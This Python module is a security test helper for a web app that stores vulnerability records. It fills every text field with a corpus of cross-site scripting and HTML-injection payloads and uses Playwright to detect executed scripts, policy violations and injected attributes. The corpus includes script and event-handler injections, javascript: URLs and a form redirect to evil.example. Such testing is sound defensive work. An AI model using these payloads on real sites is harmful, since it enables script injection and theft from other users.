"""What an attacker would write into every text, and what pages must not do with it."""

import re
from collections.abc import Iterator
from typing import Any

from playwright.async_api import BrowserContext, Page
from rest_framework import serializers

from reviews.api.fields import ObjectField
from reviews.api.serializers.apvs import APVSerializer
from reviews.api.usual_values import TextField

CORPUS = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)' style='position:fixed;inset:0",
    "</textarea><script>alert(1)</script>",
    "</title><style>*{display:none}</style>",
    "javascript:alert(1)//",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<a href=javascript:alert(1)>click</a>",
    "{{constructor.constructor('alert(1)')()}}",
    "<base href=https://evil.example/><form action=//evil.example>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "--><!--<img src=x onerror=alert(1)>-->]]><![CDATA[",
)
KEEP_TROUBLE = """
window.trouble = [];
window.alert = () => trouble.push("executed");
document.addEventListener("securitypolicyviolation", (event) =>
  trouble.push(`${event.violatedDirective} refused ${event.blockedURI}`));
"""
INJECTED = """() => [...document.querySelectorAll("*")].flatMap((element) =>
  [...element.attributes]
    .filter(({ name, value }) => name.startsWith("on") || name === "srcdoc"
      || (/^(href|src|action|formaction|data)$/.test(name)
        && /^\\s*(javascript|data):/i.test(value)))
    .map(({ name, value }) => `${element.localName} ${name}=${value}`))
  .concat([...document.querySelectorAll("base, meta[http-equiv], iframe, object, embed")]
    .map((element) => element.outerHTML))"""


def texts_of_apv(number: int) -> dict[str, Any]:
    """Return a text from the corpus for every text field of an APV.

    Over all numbers below `len(CORPUS)` each field gets each text.
    """
    payloads = {
        name: CORPUS[(number + place) % len(CORPUS)] for place, name in enumerate(text_fields())
    }
    return {name: _fitting(name, text) for name, text in payloads.items()}


def text_fields() -> Iterator[str]:
    for name, field in APVSerializer().fields.items():
        if not field.read_only and _takes_text(name, field):
            yield name


def _takes_text(name: str, field: Any) -> bool:
    if isinstance(field, serializers.ListField):
        return _takes_text(name, field.child)
    is_text = type(field) in {serializers.CharField, TextField, ObjectField}
    return is_text and name not in {"apv_code", "cve_id", "cwe_ids", "head_commit"}


def _fitting(name: str, text: str) -> Any:
    field: Any = APVSerializer().fields[name]
    if isinstance(field, serializers.ListField):
        return [text, text]
    if isinstance(field, ObjectField):
        return {text: text, "nested": [{text: [text]}]}
    if name.endswith("_url"):
        return "https://example.com/" + re.sub(r"\s", "/", text)
    return text[: field.max_length]


class Witness:
    """Watches a page: `trouble` is what was executed, refused or inserted."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.opened: list[str] = []
        self.trouble: list[str] = []
        page.on("pageerror", lambda error: self.trouble.append(str(error)))
        page.on("console", lambda message: self._hear(message.text))

    @classmethod
    async def of(cls, context: BrowserContext) -> "Witness":
        page = await context.new_page()
        await page.add_init_script(KEEP_TROUBLE)
        return cls(page)

    def _hear(self, text: str) -> None:
        if "Content Security Policy" in text:
            self.trouble.append(text)

    async def open(self, address: str) -> None:
        await self.page.goto(address)
        await self.look()

    async def look(self) -> None:
        """Record what the page did since it was opened, and what it contains."""
        self.opened.append(self.page.url)
        found = [*await self.page.evaluate("trouble"), *await self.page.evaluate(INJECTED)]
        self.trouble += [f"{self.page.url}: {one}" for one in found]
